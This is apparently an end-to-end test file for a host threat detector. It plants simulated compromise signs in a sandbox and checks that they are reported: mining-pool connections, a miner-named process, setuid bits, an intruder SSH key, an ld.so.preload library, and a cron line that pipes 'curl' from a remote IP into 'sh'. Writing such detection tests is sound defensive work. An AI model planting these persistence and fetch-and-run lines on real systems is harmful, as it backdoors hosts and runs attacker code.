import { spawn } from 'node:child_process';
import type { ChildProcess } from 'node:child_process';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { appendFileSync, chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import type { Server, Socket } from 'node:net';
import { connect, createServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CliEvent } from './sandbox.js';
import { hasTool, loadBuiltin, ruleMatches, ruleOf, runAgentCli, runCollector, sandbox, startSleeper, stopChild } from './sandbox.js';

// `okesu agents run instance-threat --local` against a sandbox: a loopback listener and connection on a port passed
// as the mining-pool port, a process named like a miner, setuid bits, authorized keys and cron entries that appear
// between two runs. No model key: the rules' findings are what the run reports.

let box: ReturnType<typeof sandbox>;
let server: Server;
let client: Socket;
let port = 0;
let closedPort = 0;
let miner: Awaited<ReturnType<typeof startSleeper>> | undefined;
const minerName = `xmr${Math.random().toString(36).slice(2, 9)}`;

/** An ed25519 public key line and its OpenSSH SHA256 fingerprint. */
function sshKey(comment: string): { line: string; fingerprint: string; blob: string } {
  const raw = generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' }).subarray(-32);
  const field = (b: Buffer) => Buffer.concat([Buffer.from([0, 0, 0, b.length]), b]);
  const blob = Buffer.concat([field(Buffer.from('ssh-ed25519')), field(raw)]);
  const fingerprint = `SHA256:${createHash('sha256').update(blob).digest('base64').replace(/=+$/, '')}`;
  return { line: `ssh-ed25519 ${blob.toString('base64')} ${comment}`, fingerprint, blob: blob.toString('base64') };
}

const freePort = (): Promise<number> =>
  new Promise((resolve) => {
    const s = createServer().listen(0, '127.0.0.1', () => {
      const a = s.address();
      s.close(() => resolve(typeof a === 'object' && a ? a.port : 0));
    });
  });

beforeAll(async () => {
  box = sandbox('okesu-threat-e2e-');
  server = createServer(() => {});
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  port = typeof address === 'object' && address ? address.port : 0;
  client = connect(port, '127.0.0.1');
  await new Promise<void>((resolve) => client.once('connect', resolve));
  closedPort = await freePort();
  miner = await startSleeper(join(box.dir, 'bin'), minerName);
});
afterAll(async () => {
  client.destroy();
  server.close();
  await stopChild(miner?.child);
  box.cleanup();
});

const NOVELTY_RULES = ['new-setuid-binary', 'new-setgid-binary', 'new-authorized-key', 'new-cron-entry'];
const summary = (f: CliEvent) => ({ severity: f.severity, title: f.title, resource: f.resource });
const byTitle = (a: { title: unknown }, b: { title: unknown }) => String(a.title).localeCompare(String(b.title));

describe('instance-threat through the CLI', () => {
  const suidDir = () => join(box.dir, 'suid');
  const keys = () => join(box.dir, 'authorized_keys');
  const cron = () => join(box.dir, 'cron.d');
  const first = sshKey('ops@bastion');
  const intruder = sshKey('x@evil');

  const inputs = () => ({
    miner_ports: [String(port)],
    miner_names: [minerName],
    setuid_roots: [suidDir()],
    setuid_exclude: [],
    authorized_keys: [keys()],
    cron_paths: [cron()],
    preload_files: [join(box.dir, 'ld.so.preload')],
    metadata_addresses: [],
    // The process, environment and kernel-hook collectors see only this sandbox.
    process_scope: [box.dir],
    core_pattern_file: join(box.dir, 'core_pattern'),
    release_agent_files: [join(box.dir, 'release_agent')],
    runtime_sockets: [join(box.dir, 'docker.sock')],
    cron_script_dirs: [join(box.dir, 'cron.daily')],
  });

  it('reports pool-port traffic, a miner process and a preloaded library at once; setuid, keys and cron only record', async () => {
    mkdirSync(suidDir());
    writeFileSync(join(suidDir(), 'helper'), 'x', { mode: 0o755 });
    writeFileSync(keys(), `${first.line}\n`);
    mkdirSync(cron());
    writeFileSync(join(cron(), 'backup'), '0 3 * * * root /usr/local/bin/backup\n');
    writeFileSync(join(box.dir, 'ld.so.preload'), '/usr/lib/libhide.so\n');
    const r = await runAgentCli('instance-threat', inputs(), join(box.dir, 'state'), box.policy);
    expect(r.code, r.stderr).toBe(0);
    expect(r.events.some((e) => e.type === 'api_unavailable')).toBe(true);
    expect(r.events.at(-1)).toMatchObject({ type: 'run_end', status: 'completed' });
    if (!hasTool('ps')) expect(r.collector('miner_processes')).toMatchObject({ skipped: true, skip_reason: expect.stringMatching(/ps is not installed/) });
    const expected = [
      { severity: 'HIGH', title: 'Connection to a cryptomining pool port', resource: `ip:127.0.0.1, port:${port}` },
      { severity: 'MEDIUM', title: 'Listener on a cryptomining pool port', resource: `port:${port}` },
      { severity: 'HIGH', title: 'Library preloaded into every process', resource: `path:${join(box.dir, 'ld.so.preload')}, library:/usr/lib/libhide.so` },
      ...(hasTool('ps')
        ? [{ severity: 'HIGH', title: 'Cryptominer process running', resource: expect.stringMatching(new RegExp(`^process:${minerName}, pid:${miner?.pid}, user:\\S+$`)) as unknown }]
        : []),
    ];
    expect(r.findings.map(summary).sort(byTitle)).toEqual(expected.sort(byTitle));
  });

  it('then reports the setuid bit, the authorized key and the cron entry added since, and nothing after that', async () => {
    chmodSync(join(suidDir(), 'helper'), 0o4755);
    appendFileSync(keys(), `${intruder.line}\n`);
    appendFileSync(join(cron(), 'backup'), '*/2 * * * * root curl -s http://203.0.113.7/x | sh\n');
    const second = await runAgentCli('instance-threat', inputs(), join(box.dir, 'state'), box.policy);
    expect(second.code, second.stderr).toBe(0);
    const keyId = hasTool('ssh-keygen') ? intruder.fingerprint : `blob:${intruder.blob.replace(/=+$/, '').slice(-43)}`;
    const novelty = (r: { findings: CliEvent[] }) => r.findings.filter((f) => NOVELTY_RULES.includes(String((f.attributes as { rule?: string }).rule)));
    expect(novelty(second).map(summary).sort(byTitle)).toEqual([
      { severity: 'MEDIUM', title: 'New cron entry', resource: `path:${cron()}/backup` },
      { severity: 'HIGH', title: 'New SSH authorized key', resource: `file:${keys()}, key:${keyId}` },
      { severity: 'HIGH', title: 'New setuid binary', resource: `path:${suidDir()}/helper` },
    ].sort(byTitle));
    // Only the new cron line, not the one that was there before.
    expect(novelty(second).find((f) => f.title === 'New cron entry')?.evidence).toEqual([expect.stringContaining('curl -s http://203.0.113.7/x | sh')]);
    const third = await runAgentCli('instance-threat', inputs(), join(box.dir, 'state'), box.policy);
    expect(third.code, third.stderr).toBe(0);
    expect(novelty(third)).toEqual([]);
    // A local run reports what the always-rules see every time (only scheduled ticks dedup).
    expect(third.findings.map((f) => f.title)).toContain('Library preloaded into every process');
  });

  it('reports a process talking to a metadata address that is not a known cloud agent', async () => {
    // 127.0.0.1 stands in for 169.254.169.254: this test process holds a connection to it.
    const r = await runAgentCli('instance-threat', { ...inputs(), metadata_addresses: ['127.0.0.1'], miner_ports: [String(closedPort)] }, join(box.dir, 'state-imds'), box.policy);
    expect(r.code, r.stderr).toBe(0);
    if (!hasTool('ss')) {
      expect(r.collector('metadata_access')).toMatchObject({ skipped: true, skip_reason: expect.stringMatching(/ss is not installed/) });
      return;
    }
    const imds = r.findings.filter((f) => f.title === 'Unexpected process talking to the cloud metadata service');
    expect(imds.map((f) => f.resource)).toContainEqual(expect.stringMatching(new RegExp(`^process:\\S+, pid:${process.pid}$`)));
    expect(imds[0]).toMatchObject({ severity: 'MEDIUM', category: 'cloud' });
  });

  it('flags a process whose command line carries a stratum URL', async () => {
    let child: ChildProcess | undefined;
    try {
      child = spawn('/bin/sh', ['-c', 'sleep 600; :', 'okesu-test', '-o', 'stratum+tcp://pool.invalid:3333'], { detached: true, stdio: 'ignore' });
      const pid = child.pid ?? 0;
      const threat = loadBuiltin('instance-threat');
      let lines: string[] = [];
      const deadline = Date.now() + 15_000;
      while (!lines.some((l) => l.startsWith(`pid=${pid} `)) && Date.now() < deadline) {
        lines = (await runCollector(threat, 'miner_processes', { miner_names: [] })).lines;
      }
      expect(ruleMatches(ruleOf(threat, 'miner-process'), lines).filter((m) => m.pid === String(pid))).toEqual([
        expect.objectContaining({ why: 'stratum-url', comm: 'sh', args: expect.stringContaining('stratum+tcp://pool.invalid:3333') }),
      ]);
      // The collector never flags itself, although its own command line names the patterns.
      expect(lines.filter((l) => !l.startsWith(`pid=${pid} `))).toEqual([]);
    } finally {
      if (child?.pid) process.kill(-child.pid, 'SIGKILL');
    }
  });

  it('finds nothing on a clean sandbox, twice', async () => {
    const clean = join(box.dir, 'clean');
    mkdirSync(clean);
    const given = {
      miner_ports: [String(closedPort)], miner_names: [`none${minerName}`], setuid_roots: [clean], setuid_exclude: [],
      authorized_keys: [join(clean, 'authorized_keys')], cron_paths: [join(clean, 'cron.d')], preload_files: [join(clean, 'ld.so.preload')],
      metadata_addresses: [], process_scope: [clean], core_pattern_file: join(clean, 'core_pattern'), release_agent_files: [join(clean, 'release_agent')],
      runtime_sockets: [join(clean, 'docker.sock')], cron_script_dirs: [join(clean, 'cron.daily')],
    };
    for (let i = 0; i < 2; i++) {
      const r = await runAgentCli('instance-threat', given, join(clean, 'state'), box.policy);
      expect(r.code, r.stderr).toBe(0);
      expect(r.events.at(-1)).toMatchObject({ type: 'run_end', status: 'completed' });
      expect(r.findings).toEqual([]);
    }
  });
});
